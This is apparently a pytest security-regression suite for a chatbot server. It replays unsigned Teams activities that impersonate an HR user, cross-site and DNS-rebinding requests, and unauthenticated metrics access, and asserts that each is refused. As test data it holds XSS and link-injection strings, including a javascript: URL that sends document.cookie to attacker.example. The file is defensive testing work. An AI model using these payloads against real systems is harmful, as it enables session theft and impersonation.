"""The doors a fresh clone left open, replayed from outside against a real `deskmate serve`
(a subprocess) over HTTP: unsigned Teams activities, the web chat driven by another web page,
unauthenticated faces beyond loopback, operations endpoints, and unsafe links.

Each test is the attack as it was reproduced, and what the attacker gets now."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import aiohttp
import pytest

from tests.support.cli import deskmate_from_async
from tests.support.recorder import Recorder
from tests.support.serve import deskmate_serve, serve_refused

HR_PERSON = "ana.ribeiro@northwind.example"  # in the `hr` group (examples/users.csv)
SALARY_QUESTION = "What are the salary bands for engineers?"
JSON = {"Content-Type": "application/json"}


def unsigned_activity(
    service_url: str, *, channel: str = "msteams", tenant: str = "tenant-1", text: str = SALARY_QUESTION
) -> dict[str, object]:
    """A Teams message activity as an attacker would post it: no Authorization header, and a
    `serviceUrl` of their own that answers the member lookup with someone else's email."""
    return {
        "type": "message",
        "id": f"1{uuid.uuid4().int % 10**12:012d}",
        "channelId": channel,
        "serviceUrl": service_url + "/",
        "text": text,
        "textFormat": "plain",
        "from": {"id": "29:attacker", "name": "Attacker", "aadObjectId": "aad-attacker"},
        "conversation": {"id": "a:1attacker", "conversationType": "personal", "tenantId": tenant},
        "recipient": {"id": "28:deskmate-bot", "name": "Deskmate"},
        "channelData": {"tenant": {"id": tenant}},
    }


@pytest.fixture
async def attacker() -> Recorder:
    """The attacker's own server: it claims the sender is the HR person."""
    rec = Recorder()
    await rec.start()
    rec.teams_members = {
        "29:attacker": {"id": "29:attacker", "name": "Ana Ribeiro", "email": HR_PERSON, "userPrincipalName": HR_PERSON}
    }
    yield rec
    await rec.stop()


@pytest.fixture(scope="module")
async def loopback_server(tmp_path_factory: pytest.TempPathFactory, example_store_url: str):
    """A server as `make demo` starts it: loopback, no platform credentials."""
    async with deskmate_serve(tmp_path_factory.mktemp("loopback"), store_url=example_store_url) as server:
        yield server


@pytest.fixture(scope="module")
async def guarded_server(tmp_path_factory: pytest.TempPathFactory, example_store_url: str):
    """Loopback with the Teams development flag, a tenant allow-list, and the operations
    endpoints on their own port behind a token."""
    from tests.support.services import free_port

    ops_port = free_port()
    async with deskmate_serve(
        tmp_path_factory.mktemp("guarded"),
        store_url=example_store_url,
        teams_dev_open="true",
        teams_tenants="tenant-ours",
        ops_port=ops_port,
        metrics_token="s3cret-metrics",
    ) as server:
        server.ops_url = f"http://127.0.0.1:{ops_port}"  # type: ignore[attr-defined]
        yield server


async def post(url: str, path: str, body: object, headers: dict[str, str] | None = None) -> tuple[int, str]:
    async with (
        aiohttp.ClientSession() as http,
        http.post(
            f"{url}{path}", data=json.dumps(body) if not isinstance(body, str) else body, headers=headers or JSON
        ) as r,
    ):
        return r.status, await r.text()


# --- 1. Teams without credentials ----------------------------------------------------------------


async def test_teams_without_an_app_id_has_no_route_and_answers_nobody(loopback_server, attacker: Recorder) -> None:
    server = loopback_server
    for channel in ("msteams", "emulator"):
        status, _ = await post(server.url, "/api/messages", unsigned_activity(attacker.url, channel=channel))
        assert status == 404, f"/api/messages answered an unsigned {channel} activity"
    assert "Teams: off" in server.output()
    # No lookup of the member and no answer went to the attacker's serviceUrl.
    assert attacker.calls == []


def test_the_teams_development_flag_is_refused_beyond_loopback(tmp_path: Path) -> None:
    rc, printed = serve_refused(tmp_path, host="0.0.0.0", teams_dev_open="true")
    assert rc == 2, printed
    assert "DESKMATE_TEAMS_APP_ID" in printed and "DESKMATE_TEAMS_DEV_OPEN" in printed


async def test_a_tenant_outside_the_allow_list_is_refused(guarded_server, attacker: Recorder) -> None:
    server = guarded_server
    status, text = await post(server.url, "/api/messages", unsigned_activity(attacker.url, tenant="tenant-elsewhere"))
    assert status == 403 and "organisation" in text
    status, _ = await post(
        server.url,
        "/api/messages",
        unsigned_activity(attacker.url, tenant="Tenant-Ours", text="How do I reset my VPN password?"),
    )
    assert status == 202
    await attacker.wait_for(lambda calls: any(c.method == "POST" and "/activities" in c.path for c in calls))
    lookups = [c for c in attacker.calls if "members" in c.path]
    assert len(lookups) == 1, "only the allowed tenant's activity reached the member lookup"


async def test_the_open_teams_endpoint_cannot_be_driven_from_a_web_page(guarded_server, attacker: Recorder) -> None:
    """Even on loopback, a page open in the developer's browser posts with no-cors: text/plain,
    its own Origin, or a rebinding Host."""
    server = guarded_server
    body = unsigned_activity(attacker.url, tenant="tenant-ours", channel="emulator")
    for headers in (
        {"Content-Type": "text/plain"},
        {**JSON, "Origin": "http://attacker.example"},
        {**JSON, "Host": "attacker.example:8000"},
    ):
        status, text = await post(server.url, "/api/messages", body, headers)
        assert status == 403 and "refused" in text, headers
    assert attacker.calls == []  # refused before anything was looked up or answered


# --- 3. the web chat, driven from another web page ----------------------------------------------


async def test_the_web_chat_refuses_cross_site_and_rebinding_requests(loopback_server) -> None:
    question = {"user": HR_PERSON, "question": SALARY_QUESTION}
    server = loopback_server
    # A cross-site <form enctype="text/plain"> needs no preflight: refused.
    status, text = await post(server.url, "/api/ask", json.dumps(question), {"Content-Type": "text/plain"})
    assert status == 415 and "JSON" in text
    # A DNS-rebinding page reaches 127.0.0.1 under its own name.
    status, text = await post(server.url, "/api/ask", question, {**JSON, "Host": "attacker.example"})
    assert status == 403 and "Host" in text
    async with (
        aiohttp.ClientSession() as http,
        http.get(f"{server.url}/api/users", headers={"Host": "attacker.example:80"}) as r,
    ):
        assert r.status == 403, "the directory must not be readable by a rebinding page"
    # Another origin's script posting JSON (its preflight is never answered; fetch with
    # no-cors still sends the Origin).
    status, _ = await post(server.url, "/api/ask", question, {**JSON, "Origin": "http://attacker.example"})
    assert status == 403
    # The page itself still works.
    port = server.url.rsplit(":", 1)[1]
    status, text = await post(
        server.url,
        "/api/ask",
        {"user": HR_PERSON, "question": "How do I reset my VPN password?"},
        {**JSON, "Origin": f"http://127.0.0.1:{port}"},
    )
    assert status == 200 and '"type": "done"' in text


async def test_beyond_loopback_the_web_chat_is_off_and_the_banner_says_where_it_listens(
    tmp_path: Path, example_store_url: str
) -> None:
    async with deskmate_serve(tmp_path, host="0.0.0.0", store_url=example_store_url) as server:
        async with aiohttp.ClientSession() as http:
            async with http.get(f"{server.url}/") as r:
                assert r.status == 404
            async with http.get(f"{server.url}/api/users") as r:
                assert r.status == 404
        status, _ = await post(server.url, "/api/ask", {"user": HR_PERSON, "question": SALARY_QUESTION})
        assert status == 404
        printed = server.output()
        assert "http://0.0.0.0:" in printed and "Web chat: off" in printed
        assert "http://127.0.0.1:" not in printed.split("Deskmate is running:", 1)[1].splitlines()[0]


def test_the_web_chat_asked_for_beyond_loopback_needs_an_explicit_yes(tmp_path: Path) -> None:
    rc, printed = serve_refused(tmp_path, host="0.0.0.0", web_chat="true")
    assert rc == 2 and "DESKMATE_WEB_CHAT_BEYOND_LOOPBACK" in printed


# --- 6. operations endpoints ---------------------------------------------------------------------


async def test_metrics_and_readiness_can_be_moved_to_their_own_port_and_need_the_token(guarded_server) -> None:
    server = guarded_server
    ops = server.ops_url
    async with aiohttp.ClientSession() as http:
        for path in ("/metrics", "/readyz"):
            async with http.get(f"{server.url}{path}") as r:
                assert r.status == 404, f"{path} is still on the main port"
        async with http.get(f"{server.url}/healthz") as r:
            assert r.status == 200
        async with http.get(f"{ops}/metrics") as r:
            assert r.status == 401
        async with http.get(f"{ops}/metrics", headers={"Authorization": "Bearer s3cret-metrics"}) as r:
            assert r.status == 200 and "deskmate_turns_total" in await r.text()
        async with http.get(f"{ops}/readyz") as r:
            body = await r.json()
            assert "parts" not in body and "ready" in body, "backend names and errors need the token"
    assert "s3cret-metrics" not in server.output()


# --- links from the knowledge base ---------------------------------------------------------------


def test_only_http_links_survive_into_an_answer() -> None:
    from bot.answering.messages import Source, safe_link

    assert safe_link("javascript:alert(document.cookie)") == ""
    assert safe_link(" JavaScript:alert(1)") == ""
    assert safe_link("data:text/html,<script>alert(1)</script>") == ""
    assert safe_link("https://intranet.example/vpn") == "https://intranet.example/vpn"
    assert Source(1, "d", "t", "javascript:alert(1)").url == ""
    # Nor anything that would end a link early where it is pasted (Slack's `<url|text>`).
    assert safe_link("https://x.example/> <!channel>") == ""
    assert safe_link("https://evil.example|Intranet VPN") == ""


async def test_a_javascript_url_in_the_knowledge_base_reaches_no_face(tmp_path: Path) -> None:
    kb = tmp_path / "kb"
    kb.mkdir()
    (kb / "printer.md").write_text(
        "---\ntitle: Printer setup\nurl: javascript:fetch('//attacker.example/'+document.cookie)\n"
        "---\n# Printer setup\n\nTo add the office printer, open Settings, choose "
        "Printers and pick NW-PRINT-01 from the list.\n",
        encoding="utf-8",
    )
    data = tmp_path / "data"
    users = tmp_path / "users.csv"
    users.write_text("email,name,department,groups\nlee@northwind.example,Lee,IT,\n", encoding="utf-8")
    for command in (["ingest", str(kb)], ["users", "import", str(users)]):
        done = await deskmate_from_async(command, cwd=tmp_path, DESKMATE_DATA_DIR=str(data))
        assert done.returncode == 0, done.stderr
    async with deskmate_serve(data) as server:
        status, text = await post(
            server.url, "/api/ask", {"user": "lee@northwind.example", "question": "How do I add the office printer?"}
        )
    assert status == 200
    done = [json.loads(line) for line in text.splitlines() if '"done"' in line][-1]["answer"]
    assert done["sources"] and done["sources"][0]["title"] == "Printer setup"
    assert all(not s["url"] for s in done["sources"]), done["sources"]
    assert "javascript:" not in text
